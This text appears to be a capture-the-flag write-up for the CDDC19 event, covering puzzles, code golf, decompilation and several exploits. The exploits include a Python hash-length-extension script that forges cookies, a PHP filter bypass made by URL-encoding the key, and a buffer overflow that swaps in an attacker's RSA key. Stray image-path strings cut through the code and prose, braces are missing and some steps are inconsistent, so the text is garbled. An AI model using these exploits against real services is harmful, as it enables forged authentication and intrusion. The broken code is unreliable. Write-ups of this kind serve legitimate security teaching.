sha512($key + $message + $append)where $append is some attacker chosen value with the caveat that the final hash is actually

sha512($key + $message + $some_junk + $append)

because the attack packs the initial padding in. The application conveniently leaks a valid pair of a product code and a transaction hash:

The script used to execute the attack is as follows. Note that I end up brute forcing the submission with different key lengths because guessing that is necessary for the attack to succeed (look up how hash extension attacks work, but a quick explanation is: $some_junk is actually padding, and for the resulting hash to be correct the padding has to becorrect. This padding is dependent on the length of the key).

import base64
import hashpumpy
import requests

PROD_CODE = "W8-31-5053-0kX-QiL-1"
T_HASH ="4b1fd6e9321db837da0e60843f664d7484d78acf93893c9767a0fb0f52ff80ca14ec75588dcbefa1b0167d6984de05305b1c20c21ce7f20dd73883929ab5f051"

for i in range(64):
   print("trying i={}".format(i))
   new_t_hash, new_prod_code = hashpumpy.hashpump(T_HASH, PROD_CODE, "a", i)
   cookies = {
       "prod_code": base64.b64encode(new_prod_code),
       "transaction_hash": new_t_hash

   r = requests.get("", cookies=cookies)> python
trying i=0
<!-- ?debug_mode=1 -->


trying i=13
<!-- ?debug_mode=1 -->

trying i=14
<!-- ?debug_mode=1 -->


Downloading the zip file reveals a password-protected zip file. Using hex editor to examine the file reveals a specific PNG portion, based on the file header and footer.

From here, we can proceed to carve out the file, which is a png document with the flag inside it.

The Terrible Photographer Strikes!

We were given a photocontaining the flag:

We are obviously interested in the text on the router, but look at how blurry it is. This looks like the perfect job for Adobe Photoshop, where there is a tool specifically designed to reduce motion blur. It works by analysing edges and tracing the path that the camera took and attempting to de-blur the selected portion in the photo.

Full Sized Improved Photo. Much Better.



We were given the following text:

[01] इस भाषा का पहला चरित्र झंडा बनाता है।
[02] Karakter pertama bahasa ini yang mengibarkan bendera.
[03] 这种语言的第一个字符构成了旗帜。
[04] Het eerste teken van deze taal vormt de vlag.
[05] Det første tegn på dette sprog udgør flag.
[06] El primer caràcter d’aquest idioma constitueix la bandera.
[07] Det første tegnet av dette språket utgjør flagget.
[08] El primer carácter de este lenguaje lo constituye la bandera.
[09] Thawj qhov cim ntawm hom lus no ua rau tus chij.
[10] Prvi znak ovog jezika čini zastavu.

The languages that each line is written in:1. Hindi
  2. Indonesian
  3. Chinese
  4. Dutch
  5. Danish
  6. Catalan
  7. Norwegian
  8. Spanish
  9. Hmong
  10. Crotian

From there, we were given the format: $CDDC19${[01][02]~[03][04][05][06]&[07][08][09][10]!}, resulting in the flag $CDDC19${HI~CDDC&NSHC!}Do You Fancy Numbers?

We were given the above image. A bit of research indicates that these are Suzhou numerals, decodable using the chart found here

They translate to:

Decoding to ASCII returns the flag: $CDDC19${50_y0u_f4NcY_fl0W3r_NuMb3R5}

Super Strong TeleVision

As the name implies, the audio file provided is actually a Slow-Scan Television signal. Playing it into the Android app “Robot36” renders the image.

Do Not Accept Your Fate

We were given a faulty cmd script to fix for this challenge.

Left: Initial Script. Right: Modified Script

After poking around, we realised that ExitCodeAscii was the thing to zoom in on. The loop seemed similar to the code at we patched the script to dump the ASCII return characters:

Running the script then provides the flag one character at a time: $CDDC19${ascii}


There is a type of DNS record called TXT. Since the challenge is literally titled TxT, that is probably the type of record to look for.

Count 1:Baby

The challenge was to golf the following code to less than 53 characters:

#include <stdio.h>

int main(int argc, char *argv[])
        int i;

        for( i = 1 ; i < 10000 ; i++ )
                printf("%d,", i);

        return 0;

After compacting the code down and removing the include (compiling throws a warning but well, it still compiles), we have a 41 character solution.


Count 2: Wildness

Count 1: Baby with more limitations:

  • Total length <= 41 characters
  • Characters in “<== w1lD ==>" are blacklisted

Making use of a few tricks:

  1. Declaring a global which is implicitly initialised to 0
  2. Checking for equality with 9999 instead of 10000 to avoid 13. Checking for equality with XOR to avoid =

Gives the following 41 character solution:


Count 4: Madness - Filter

Count 1: Baby with even weirder restrictions:

  • Total length <= 44
  • Alphabets used must be in “mad printf” (Note that this excludes symbols). Validation code:
mad = 'mad printf'
    for ch in code:
        if ch.islower() and (ch not in mad):
            print "\nSorry, this key is broken! -> '{}'".format(ch)Since for and while are not allowed, we call main recursively to achieve the same looping functionality. 44 characters:



Lemonade.exe was provided, which turns out to be a compiled AutoIt script:

Decompiling it with Ext2Aut (from contains what we’re looking for:

While 1
    $nmsg = GUIGetMsg()
    Switch $nmsg
        Case $gui_event_close
        Case $button2
        Case $button1
            Local $int1 =GUICtrlRead($input1)
            Local $int2 = GUICtrlRead($input2)
            If $int1 = "" OR $int2 = "" Then
                MsgBox(0, "NOPEEEE", "Please input numbers :)")
            ElseIf $int1 = 941228 AND $int2 = 940628 Then
                MsgBox(0, "Congratulations XD!!", "$CDDC19${easy_peasy_Autoit_squeezy}")
            ElseIf NOT StringIsInt($int1) OR NOT StringIsInt($int2) Then
                MsgBox(0, "NOPEEEE", "Only numbers allowed :(")
                MsgBox(0, "Result!!",$int1 + $int2)


This PHP puzzle revolves around how $_SERVER[“QUERY_STRING”] is processed before being passed to $_GET - characters are blacklisted in $_SERVER[“QUERY_STRING”].

However, a close read of the documentation for $_GET has this interesting line: “The GET variables are passed through urldecode()”. I just need to URL encode the entire key to bypass the filters:

a = ""
for c in "_1234567890-ABCDEFGHIJKLMNOPQRSTUVWXYZ-qwertyuiopasdfghjklzxcvbnm_":
    a += "%{}".format(str(hex(ord(c)))[2:])



The binary given allows data to be encrypted by a public key. Decompilation of the main function with Ghidra:

undefined8 main(void)

  int len_pubkey;
  undefined4 option;
  uint len_encrypted_flag;
  uint uVar1;
  ssize_t sVar2;
  size_t sVar3;
  void *__ptr;
  long lVar4;
  undefined8 *puVar5;
  long in_FS_OFFSET;
  char local_19b9;
  int local_19b8;
  uint len_flag;
  char ptr_input [256];
  undefined pubkey [2048];
  undefined flag [128];
  undefined8 encrypted_flag [513];
  long local_10;
  local_10 = *(long *)(in_FS_OFFSET + 0x28);
  lVar4 = 0x200;
  puVar5 = encrypted_flag;
  while (lVar4 != 0) {lVar4 = lVar4 + -1;
    *puVar5 = 0;
    puVar5 = puVar5 + 1;
  *(undefined2 *)puVar5 = 0;
  setvbuf(stdout,(char *)0x0,1,0);
  setvbuf(stdin,(char *)0x0,1,0);
  len_flag = load_file(&DAT_00101dd2,flag);
  len_pubkey = load_file("public.pem",pubkey);
  pubkey[(long)len_pubkey] = 0;
  puts("Text Encryption Service ");
  DAT_00303068 = rsa_init(pubkey,1);
  local_19b8 = 0;
  do {
    if (9 < local_19b8) {
      if (local_10 != *(long *)(in_FS_OFFSET + 0x28)) {
                    /* WARNING: Subroutine does not return */
      return 0;
    option = FUN_0010158d();switch(option) {
      puts("Please select 1-5 \n");
    case 1:
      len_encrypted_flag = rsa_encrypt(flag,(ulong)len_flag,pubkey,encrypted_flag);
      if (len_encrypted_flag == 0xffffffff) {
        FUN_00101402("[-] Public Key Encryption Failed ");
                    /* WARNING: Subroutine does not return */
      puts("[Encrypted message example] ---|");
      printf("[+] Encrypted message length : %d\n",(ulong)len_encrypted_flag);
      __ptr = (void *)FUN_0010129a(encrypted_flag,(ulong)len_encrypted_flag,
      printf("[+] Encrypted Text : \n%s");
    case 2:
      printf("\n\n[*] Input : ");
      sVar2 = read(0,ptr_input,0x214);
      ptr_input[(long)((int)sVar2 + -1)] = 0;
      if ((int)sVar2 < 0x101) {
        sVar3 = strlen(ptr_input);
        uVar1 = rsa_encrypt(ptr_input,sVar3 & 0xffffffff,pubkey,encrypted_flag);
        if (uVar1 == 0xffffffff) {
          FUN_00101402("[-] Public Key Encryption Failed ");
                    /* WARNING: Subroutine does not return */
        puts("[Encrypted message] ---|");
        printf("[+] Encrypted message length : %d\n",(ulong)uVar1);
        __ptr = (void*)FUN_0010129a(encrypted_flag,(ulong)uVar1,(ulong)uVar1);
        printf("[+] Encrypted Text : \n%s",__ptr);
      else {
        puts("Input buffer overflow");
    case 3:
      DAT_00303068 = rsa_init(pubkey,1);
      puts("Decrypting service is *NOT* implemented yet. Sorry!\n");
    case 4:
      puts("[Print public key] ---|");
      printf("[+] Public key length : %d\n",0x80);
      printf("[+] Public key : \n%s",pubkey);
    case 5:
      printf("Are you satisfied our service? (y/n) : ");
      if (local_19b9 != 'n') {
        puts("\nGood bye!\n");
        gotoLAB_00101c28;
      local_19b8 = 0;
    local_19b8 = local_19b8 + 1;
  } while( true );

At this point, a big flashing red alarm goes off over the manual buffer overflow check. The read in case 2 reads up to 0x214 bytes into a buffer that is only 256 bytes long. What happens when this overflows then?

Your selection : $ 4

    You have selected [4]

[Print public key] ---|
[+] Public key length : 128
[+] Public key :

Oops. It turns out that the buffer overflow proceeds to write data into the buffer holding the public key! The attack vector is clear here - write in my own public key for which I have the private key using this buffer overflow.

However, pubkey being passed to rsa_encrypt does not actually modify the encryption - I presume it’s there just to make people curse and swear :).

ulong rsa_encrypt(uchar *puParm1,int iParm2,undefined8 uParm3,uchar *puParm4)

  uint uVar1;
  uVar1 = RSA_public_encrypt(iParm2,puParm1,puParm4,DAT_00303068,DAT_00303010);
  return (ulong)uVar1;

The public key to be used for encryption is actually set when the RSA object is created. Luckily, I can re-create the RSA object thanks to case 3:

case 3:
   DAT_00303068 = rsa_init(pubkey,1);
   puts("Decrypting service is *NOT* implemented yet. Sorry!\n");

With that in mind, the attack:

Generate a set of public and private RSA keys:openssl genrsa -out private_attack.pem 1024
openssl rsa -in private.pem -outform PEM -pubout -out public_attack.pem

